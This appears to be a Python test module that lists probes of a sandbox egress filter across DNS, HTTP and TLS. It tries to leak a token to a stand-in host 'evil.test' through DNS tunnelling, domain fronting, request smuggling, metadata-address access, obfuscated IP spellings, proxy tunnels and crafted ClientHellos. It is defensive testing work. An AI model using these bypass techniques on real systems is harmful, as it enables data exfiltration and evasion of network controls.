"""The probes of bypass.py that the kernel's rules alone do not answer: names, HTTP and TLS.

row(name, code, sight): code is Python that a user in the sandbox runs, with the helpers of PRELUDE,
the addresses of sidecarbed.py in braces, and T, a text of its own for each attempt. What counts as
through: `wire`, T in a frame that left; `flow-evil` and `toward-`, a frame to an address that nothing allows;
`web`, T in a request that nginx answered, at one address or any; `told`, the code gave itself a true
`got`.
"""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "e2e"))
import tlsbed  # noqa: E402
from sidecarbed import REBIND, TYPES  # noqa: E402

FORMS = {"nat64": "64:ff9b::b16:42", "local-nat64": "64:ff9b:1::b16:42", "6to4": "2002:b16:42::1",
         "compatible": "::11.22.0.66", "siit": "::ffff:0:11.22.0.66", "teredo": "2001:0:b16:42::1",
         "nat64-of-metadata": "64:ff9b::a9fe:a9fe", "nat64-of-private": "64:ff9b::a4d:3"}

PRELUDE = """
def conn(addr, port, wait=0.8):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET)
    s.settimeout(wait)
    s.connect((addr, port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s
def wrap(s, sni, alpn=None):
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    if alpn:
        c.set_alpn_protocols(alpn)
    return c.wrap_socket(s, server_hostname=sni)
def tls(addr, port, sni, alpn=None):
    return wrap(conn(addr, port), sni, alpn)
def say(s, *parts, gap=0):
    # what came back, or why nothing did
    global told
    for p in parts:
        s.sendall(p.encode() if isinstance(p, str) else p)
        if gap:
            time.sleep(gap)
    try:
        told = s.recv(4096)[:70].decode(errors="replace")
    except OSError as e:
        told = type(e).__name__
    return told
def get(s, host, uri, method="GET", more="", body=""):
    return say(s, f"{method} {uri} HTTP/1.1\\r\\nHost: {host}\\r\\n{more}Connection: close\\r\\n\\r\\n{body}")
def via(addr, port, name, first=""):
    # by our own listener, or past it where there is none
    try:
        s = conn("127.0.0.1" if "." in addr else "::1", 18081)
    except ConnectionRefusedError:
        return conn(addr, port)
    if first:
        s.sendall(first.encode() if isinstance(first, str) else first)
        return s
    answer = say(s, f"CONNECT {name}:{port} HTTP/1.1\\r\\nHost: {name}:{port}\\r\\n\\r\\n")
    if " 200 " not in answer:
        raise OSError(0, answer)
    return s
def labels(name):
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p) + b"\\0"
def ask(name, kind=1, cls=1, flags=0x100, more=b"", counts=(1, 0, 0, 0), edns=None):
    name = name if isinstance(name, bytes) else labels(name)
    counts = (*counts[:3], counts[3] + (edns is not None))
    m = struct.pack("!6H", 0x1234, flags, *counts) + name + struct.pack("!HH", kind, cls) + more
    if edns is not None:
        m += b"\\0" + struct.pack("!HHIH", 41, 1232, 0, len(edns)) + edns
    return m
def option(code, data):
    return struct.pack("!HH", code, len(data)) + data
def dns(addr, *messages, tcp=False, port=53):
    global told
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, 1 if tcp else 2)
    s.settimeout(0.8)
    s.connect((addr, port))
    s.send(b"".join(struct.pack("!H", len(m)) + m for m in messages) if tcp else messages[0])
    try:
        got = s.recv(4096)
        got = got[2:] if tcp else got
        told = f"rcode {got[3] & 15}, {got[7]} answers" if len(got) > 7 else str(got)
        return got
    except OSError as e:
        told = type(e).__name__
        return b""
told = ""
"""
ROWS = []
BOTH = (4, 6)


def row(group, name, code, sight="wire", families=(4,)):
    for f in families:
        ROWS.append((group, f"{name}-v{f}" if len(families) > 1 else name, f, code, sight))


# ---- names

def dns(name, code, sight="wire", families=(4,)):
    row("dns", name, code, sight, families)


for how in ("udp", "tcp"):
    tcp = how == "tcp"
    dns(f"denied-name-{how}", f"dns({{resolver!r}}, ask(T + '.evil.test'), tcp={tcp})", families=BOTH)
    dns(f"denied-name-by-another-resolver-{how}", f"dns({{evil!r}}, ask(T + '.evil.test'), tcp={tcp})",
        families=BOTH)
    dns(f"denied-name-in-capitals-{how}", f"dns({{resolver!r}}, ask(T.upper() + '.EVIL.tEST'), tcp={tcp})")
    dns(f"no-question-at-all-{how}", f"dns({{resolver!r}}, T.encode() * 3, tcp={tcp})")
dns("denied-name-on-another-port", "dns({evil!r}, ask(T + '.evil.test'), port=5353)", families=BOTH)
dns("denied-name-on-a-tcp-port", "dns({evil!r}, ask(T + '.evil.test'), tcp=True, port=5000)", families=BOTH)
dns("denied-below-a-wildcard", "got = dns({resolver!r}, ask('bad.wild.test'))[7:8] > b'\\0'", "told")
for what, kind in (("txt", 16), ("null", 10), ("hinfo", 13), ("any", 255), ("key", 25),
                   ("cert", 37), ("private", 65399)):
    dns(f"type-{what}-of-a-wildcard", f"dns({{resolver!r}}, ask(T + '.wild.test', {kind}))")
for what, cls in (("chaos", 3), ("hesiod", 4), ("any", 255)):
    dns(f"class-{what}", f"dns({{resolver!r}}, ask(T + '.wild.test', cls={cls}))")
for what, code in (("iquery", 1), ("status", 2), ("notify", 4), ("update", 5), ("dso", 6)):
    dns(f"opcode-{what}", f"dns({{resolver!r}}, ask(T + '.wild.test', flags={code << 11}))")
dns("answer-as-question", "dns({resolver!r}, ask(T + '.wild.test', flags=0x8180))")
dns("second-question", "dns({resolver!r}, ask('read.test', more=labels(T + '.evil.test') + b'\\0\\1\\0\\1', counts=(2, 0, 0, 0)))")
dns("second-message", "dns({resolver!r}, ask('read.test'), ask(T + '.evil.test'), tcp=True)")
for what, code in (("of-nobody", 65001), ("client-subnet", 8), ("cookie", 10), ("padding", 12), ("nsid", 3)):
    dns(f"option-{what}", f"dns({{resolver!r}}, ask('read.test', edns=option({code}, T.encode())))")
dns("bytes-after-the-question", "dns({resolver!r}, ask('read.test', more=T.encode()))")
for what, counts in (("answer", (1, 1, 0, 0)), ("authority", (1, 0, 1, 0)), ("additional", (1, 0, 0, 1))):
    dns(f"record-in-{what}", "dns({resolver!r}, ask('read.test', more=labels(T + '.evil.test') + b'\\0\\1\\0\\1\\0\\0\\0\\1\\0\\4abcd'," + f" counts={counts}))")
dns("pointer-in-the-question", "dns({resolver!r}, ask(bytes([len(T)]) + T.encode() + b'\\xc0\\x24', more=labels('evil.test')))")
dns("dot-in-a-label", "dns({resolver!r}, ask(bytes([len(T) + 5]) + T.encode() + b'.wild\\4test\\0'))")
dns("nul-in-a-label", "dns({resolver!r}, ask(bytes([len(T)]) + T.encode() + b'\\x0bread.test\\0x\\4evil\\4test\\0'))")
for name, (kind, value) in REBIND.items():
    pton = f"b'\\0\\{4 if kind == 'A' else 20}' + socket.inet_pton(socket.AF_INET{'' if kind == 'A' else '6'}, {value!r})"
    dns(f"rebinding-{name}", f"got = ({pton}) in dns({{resolver!r}}, ask('{name}.wild.test', {TYPES[kind]}))", "told")
dns("alias-to-private", "got = p4({internal4!r}) in dns({resolver!r}, ask('alias.wild.test'))", "told")
dns("alias-to-denied", "got = p4({evil4!r}) in dns({resolver!r}, ask('alias-bad.wild.test'))", "told")
dns("records-of-other-names", "got = p4({evil4!r}) in dns({hostile!r}, ask('forged.test'))", "told")
dns("encrypted-hello-key", "got = b'real' in dns({resolver!r}, ask('x.wild.test', 65))", "told")
dns("http3-hint", "got = b'h3' in dns({resolver!r}, ask('x.wild.test', 65))", "told")
dns("resolver-discovery", "got = b'real' in dns({hostile!r}, ask('_dns.resolver.arpa', 64))", "told")
dns("canary-domain", "got = dns({hostile!r}, ask('use-application-dns.net'))[7:8] > b'\\0'", "told")


# ---- HTTP

def web(name, code, sight="web", families=(4,)):
    row("web", name, code, sight, families)


for port in (80, 8080):
    web(f"http-{port}", f"get(conn({{evil!r}}, {port}), 'evil.test', '/' + T)", families=BOTH)
    web(f"http-{port}-to-the-address", f"get(conn({{evil!r}}, {port}), lit({{evil!r}}), '/' + T)", families=BOTH)
for port in (443, 8443):
    web(f"https-{port}", f"get(tls({{evil!r}}, {port}, 'evil.test'), 'evil.test', '/' + T)", families=BOTH)
    web(f"https-{port}-without-name", f"get(tls({{evil!r}}, {port}, None), lit({{evil!r}}), '/' + T)", families=BOTH)
web("doh-by-name", "get(tls({evil!r}, 443, 'dns.evil.test'), 'dns.evil.test', '/dns-query?dns=' + T)", families=BOTH)
web("doh-by-address", "get(tls({evil!r}, 443, None), lit({evil!r}), '/dns-query?dns=' + T)", families=BOTH)
web("doh-post-to-a-read-host", "get(tls({good!r}, 443, 'read.test'), 'read.test', '/dns-query/' + T, 'POST', 'Content-Type: application/dns-message\\r\\nContent-Length: 1\\r\\n', 'x')", families=BOTH)
web("dns-over-tls-elsewhere", "tls({evil!r}, 853, None)", "flow-evil", BOTH)
web("fronted-name-at-another-address", "get(tls({evil!r}, 443, 'read.test'), 'read.test', '/' + T)", "web-evil", BOTH)
web("fronted-name-by-http", "get(conn({evil!r}, 80), 'read.test', '/' + T)", "web-evil", BOTH)
for what, where, sni, host in (
        ("host-not-the-sni", "good", "'read.test'", "evil.test"),
        ("host-not-the-sni-elsewhere", "evil", "'read.test'", "evil.test"),
        ("host-allowed-too", "good", "'read.test'", "two.test"),
        ("sni-refused-host-allowed", "good", "'evil.test'", "read.test"),
        ("sni-of-the-write-host", "good", "'api.model.test'", "read.test"),
        ("no-sni-host-of-another", "good", "None", "evil.test"),
        ("no-sni-host-allowed", "evil", "None", "read.test")):
    web(what, f"get(tls({{{where}!r}}, 443, {sni}), {host!r}, '/' + T)", families=BOTH)
web("sni-is-an-address", "get(tls({good!r}, 443, '11.22.0.66'), '11.22.0.66', '/' + T)")
web("absolute-form-of-another", "say(conn({evil!r}, 80), f'GET http://evil.test/{{T}} HTTP/1.1\\r\\nHost: read.test\\r\\n\\r\\n')", families=BOTH)
web("absolute-form-in-tls", "say(tls({good!r}, 443, 'read.test'), f'GET https://evil.test/{{T}} HTTP/1.1\\r\\nHost: read.test\\r\\n\\r\\n')", families=BOTH)
web("alpn-h2", "get(tls({evil!r}, 443, 'evil.test', ['http/1.1', 'h2']), 'evil.test', '/' + T)", families=BOTH)
for what, fields in (
        ("two-hosts", "Host: read.test\\r\\nHost: evil.test\\r\\n"),
        ("no-host", "X: y\\r\\n"), ("host-with-user", "Host: read.test@evil.test\\r\\n"),
        ("host-with-path", "Host: read.test/evil.test\\r\\n"),
        ("host-list", "Host: read.test, evil.test\\r\\n"),
        ("host-folded", "Host: read.test\\r\\n evil.test\\r\\n"),
        ("space-before-colon", "Host: read.test\\r\\nHost : evil.test\\r\\n"),
        ("bare-lf", "Host: read.test\\nHost: evil.test\\r\\n"),
        ("bare-cr", "Host: read.test\\rX: y\\r\\n"),
        ("nul-in-host", "Host: read.test\\0.evil.test\\r\\n"),
        ("websocket", "Host: read.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n"),
        ("override-field", "Host: read.test\\r\\nX-HTTP-Method-Override: POST\\r\\n"),
        ("override-method", "Host: read.test\\r\\nX_Method_Override: PUT\\r\\n"),
        ("override-url", "Host: read.test\\r\\nX-Original-URL: /admin\\r\\n")):
    web(what, f"say(conn({{good!r}}, 80), f'GET /{{{{T}}}} HTTP/1.1\\r\\n{fields}\\r\\n')", "wire", BOTH)
web("override-in-query", "get(conn({good!r}, 80), 'read.test', '/?_method=DELETE&x=' + T)", "wire", BOTH)
for method in ("POST", "PUT", "DELETE", "PATCH", "PROPFIND", "BREW", "get", "TRACE", "QUERY", "CONNECT"):
    web(f"method-{method}", f"get(conn({{good!r}}, 80), 'read.test', '/' + T, {method!r})", "wire")
for method in ("POST", "PUT", "DELETE"):
    web(f"method-{method}-in-tls", f"get(tls({{good!r}}, 443, 'read.test'), 'read.test', '/' + T, {method!r})", families=BOTH)
for what, more, body in (
        ("content-in-a-read", "Content-Length: 16\\r\\n", "{T}"),
        ("chunks-in-a-read", "Transfer-Encoding: chunked\\r\\n", "10\\r\\n{T}\\r\\n0\\r\\n\\r\\n"),
        ("trailer-in-a-read", "Transfer-Encoding: chunked\\r\\nTrailer: X\\r\\n", "0\\r\\nX: {T}\\r\\n\\r\\n"),
        ("length-and-chunks", "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n", "0\\r\\n\\r\\nPOST /{T} HTTP/1.1\\r\\nHost: read.test\\r\\n\\r\\n"),
        ("chunks-and-length", "Transfer-Encoding: chunked\\r\\nContent-Length: 60\\r\\n", "0\\r\\n\\r\\nPOST /{T} HTTP/1.1\\r\\nHost: read.test\\r\\n\\r\\n"),
        ("two-lengths", "Content-Length: 0\\r\\nContent-Length: 40\\r\\n", "POST /{T} HTTP/1.1\\r\\nHost: read.test\\r\\n\\r\\n"),
        ("odd-coding", "Transfer-Encoding: xchunked\\r\\n", "0\\r\\n\\r\\nPOST /{T} HTTP/1.1\\r\\nHost: read.test\\r\\n\\r\\n"),
        ("expect-then-content", "Content-Length: 16\\r\\nExpect: 100-continue\\r\\n", "{T}"),
        ("write-behind-a-read", "", "POST /{T} HTTP/1.1\\r\\nHost: read.test\\r\\nContent-Length: 0\\r\\n\\r\\n"),
        ("other-host-behind-a-read", "", "GET /{T} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")):
    web(what, f"say(conn({{good!r}}, 80), f'GET / HTTP/1.1\\r\\nHost: read.test\\r\\n{more}\\r\\n{body.replace('{T}', '{{T}}')}')", "wire", BOTH)
web("http2-without-tls", "say(conn({good!r}, 80), 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + T)", "wire", BOTH)
for port in (22, 25, 80, 443, 5000, 8080, 8443):
    for where in ("good", "evil"):
        web(f"bytes-to-{port}-of-{where}", f"say(conn({{{where}!r}}, {port}), '\\1\\2' + T)", "wire", BOTH)
web("silence-and-then-bytes", "say(conn({good!r}, 443), '', '\\1\\2' + T, gap=0.4)", "wire", BOTH)
web("metadata-by-http", "get(conn({meta!r}, 80), lit({meta!r}), '/latest/' + T)", "wire", BOTH)
web("metadata-under-an-allowed-name", "get(conn({meta!r}, 80), 'read.test', '/' + T)", "web-meta", BOTH)
web("metadata-by-a-name", "get(conn({meta!r}, 80), {'meta6' if {f} == 6 else 'meta'!r} + '.wild.test', '/' + T)".replace("{'meta6' if {f} == 6 else 'meta'!r}", "('meta6' if {f} == 6 else 'meta')"), "wire", BOTH)
web("private-by-a-name", "get(conn({internal!r}, 80), ('unique' if {f} == 6 else 'private') + '.wild.test', '/' + T)", "wire", BOTH)
web("alias-to-private-by-http", "get(conn({internal4!r}, 80), 'alias.wild.test', '/' + T)", "wire")
web("port-of-a-private-address", "get(conn({private!r}, 80), lit({private!r}), '/' + T)", "wire", BOTH)
web("neighbour", "get(conn({internal!r}, 8080), lit({internal!r}), '/' + T)", "wire", BOTH)
web("write-host-name-at-another-address", "get(conn({evil!r}, 80), 'api.model.test', '/' + T, 'POST')", "web-evil", BOTH)
# Addresses in other spellings, and IPv6 addresses that hold IPv4 ones.
for what, host in (("hexadecimal", "0x0b160042"), ("decimal", "185991234"), ("octal", "013.026.0.0102"),
                   ("short", "11.22.66"), ("mixed", "0xb.22.0.0102"), ("dot-behind", "11.22.0.66."),
                   ("mapped", "[::ffff:11.22.0.66]"), ("mapped-hex", "[::ffff:b16:42]"),
                   ("zeros", "[2a0e:0077:0:0:0:0:0:0066]"), ("zone", "[2a0e:77::66%25wan]"),
                   ("full-width", "\\uff11\\uff11.22.0.66")):
    web(f"spelling-{what}", f"get(conn({{evil!r}}, 80), '{host}', '/' + T)")
    web(f"spelling-{what}-by-connect", f"get(via({{evil!r}}, 80, '{host}'), '{host}', '/' + T)")
web("tcp-to-a-mapped-address", "get(conn('::ffff:{evil4}', 80), lit({evil!r}), '/' + T)")
for what, addr in FORMS.items():
    web(f"udp-to-{what}", f"s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(T.encode(), ('{addr}', 5000))", "wire")
    web(f"tcp-to-{what}", f"say(conn('{addr}', 5000), T)", "toward-" + what)
# Our own listeners.
web("proxy-absolute-form", "say(via({evil!r}, 80, '', ' ' * 0 or '\\r\\n'), f'GET http://evil.test/{{T}} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')", families=BOTH)
web("proxy-connect-name", "get(wrap(via({evil!r}, 443, 'evil.test'), 'evil.test'), 'evil.test', '/' + T)", families=BOTH)
web("proxy-connect-address", "get(wrap(via({evil!r}, 443, lit({evil!r})), None), lit({evil!r}), '/' + T)", families=BOTH)
web("proxy-connect-metadata", "get(via({meta!r}, 80, lit({meta!r})), lit({meta!r}), '/' + T)", families=BOTH)
web("proxy-connect-other-inside", "get(wrap(via({evil!r}, 443, 'read.test'), 'evil.test'), 'evil.test', '/' + T)", families=BOTH)
web("proxy-connect-port-22", "say(via({good!r}, 22, 'read.test'), T)", "wire", BOTH)
web("proxy-protocol-1", "say(via({evil!r}, 80, '', 'PROXY TCP4 198.18.91.2 11.22.0.66 4000 80\\r\\n'), f'GET /{{T}} HTTP/1.1\\r\\nHost: 11.22.0.66\\r\\n\\r\\n')", families=BOTH)
web("proxy-protocol-2", "say(via({evil!r}, 80, '', b'\\r\\n\\r\\n\\0\\r\\nQUIT\\n\\x21\\x11\\0\\x0c' + p4('198.18.91.2') + p4('11.22.0.66') + b'\\x10\\0\\0\\x50'), f'GET /{{T}} HTTP/1.1\\r\\nHost: 11.22.0.66\\r\\n\\r\\n')", families=BOTH)
web("proxy-socks", "say(via({evil!r}, 5000, '', b'\\5\\1\\0\\5\\1\\0\\1' + p4('11.22.0.66') + b'\\x13\\x88'), T)", "wire", BOTH)
web("gate-asked-directly", """
try:
    dns('127.0.0.1', ask(T + '.evil.test'), port=15353)
    if told == 'ConnectionRefusedError': raise OSError
except OSError:
    dns({resolver!r}, ask(T + '.evil.test'))""", "wire")


# ---- TLS

def hello(name, exts, where="good", cut="", after="b''", families=BOTH, **o):
    """A raw ClientHello; {T} in its bytes is 16 bytes long like T."""
    data = tlsbed.hello(exts, **o)
    send = {"": "[h]", "bytes": "[h[i:i + 1] for i in range(len(h))]",
            "segments": "[h[:9], h[9:60], h[60:]]",
            "records": "[b''.join(b'\\x16\\3\\1' + struct.pack('!H', len(x)) + x for x in [h[5 + i:5 + i + 7] for i in range(0, len(h) - 5, 7)])]"}[cut]
    row("tls", name, f"""
h = {data!r}.replace(b"T" * 16, T.encode())
say(conn({{{where}!r}}, 443), *{send}, {after})""", "flow-evil" if cut else "wire", families)


T16 = b"T" * 16
sni, word = tlsbed.sni, tlsbed.word
EVIL_NAME = sni(T16 + b".evil.test")
hello("refused-name", EVIL_NAME)
hello("refused-name-byte-by-byte", EVIL_NAME, "evil", cut="bytes")
hello("refused-name-in-segments", EVIL_NAME, "evil", cut="segments")
hello("refused-name-in-records", EVIL_NAME, "evil", cut="records")
hello("refused-name-oversized", word(21, 15000) + bytes(15000) + EVIL_NAME)
hello("two-names", tlsbed.names_ext((0, b"read.test"), (0, T16 + b".evil.test")))
hello("two-server-name-fields", sni(b"read.test") + EVIL_NAME)
hello("name-of-another-type", tlsbed.names_ext((1, T16)))
hello("name-with-a-dot-behind", sni(T16 + b".evil.test."))
hello("name-in-capitals", sni(T16 + b".EVIL.TEST"))
hello("name-with-a-nul", sni(b"read.test\0" + T16 + b".evil.test"))
hello("name-with-a-space", sni(b"read.test " + T16))
ECH_OUTER = b"\0" + word(1, 1) + b"\x07" + word(32) + bytes(32)
hello("grease-ech", sni(b"read.test") + word(0xfe0d, len(ECH_OUTER) + 18, ) + ECH_OUTER + word(16) + T16, "evil")
hello("grease-ech-to-the-allowed", sni(b"read.test") + word(0xfe0d, len(ECH_OUTER) + 18) + ECH_OUTER + word(16) + T16)
ECH_INNER = sni(T16 + b".evil.test")
hello("real-ech", sni(b"read.test") + word(0xfe0d, len(ECH_OUTER) + 2 + len(ECH_INNER)) + ECH_OUTER + word(len(ECH_INNER)) + ECH_INNER, "evil")
hello("real-ech-without-name", word(0xfe0d, len(ECH_OUTER) + 2 + len(ECH_INNER)) + ECH_OUTER + word(len(ECH_INNER)) + ECH_INNER, "evil")
hello("ticket-of-a-session", sni(b"read.test") + word(35, 16) + T16)
hello("alpn-of-nobody", sni(b"read.test") + word(16, 19, 17) + b"\x10" + T16)
hello("field-of-nobody", sni(b"read.test") + word(65280, 16) + T16)
hello("session-id", sni(b"read.test"), session=T16)
hello("bytes-behind-the-hello", sni(b"read.test"), after="b'\\x17\\3\\3\\0\\x10' + T.encode()")
row("tls", "version-2-hello", "m = b'\\1\\3\\1\\0\\3\\0\\0\\0\\x10\\0\\0\\x2f' + T.encode(); say(conn({good!r}, 443), struct.pack('!H', 0x8000 | len(m)) + m)", families=BOTH)
row("tls", "alert-first", "say(conn({good!r}, 443), b'\\x15\\3\\1\\0\\x12\\1\\0' + T.encode())", families=BOTH)
row("tls", "more-than-64-KiB", "say(conn({good!r}, 443), *[b'\\x16\\3\\1\\x40\\0' + (b'\\1\\1\\x80\\0' if i == 0 else b'') + b'\\0' * (16380 if i == 0 else 16384) for i in range(6)], b'\\x16\\3\\1\\0\\x10' + T.encode())", families=BOTH)
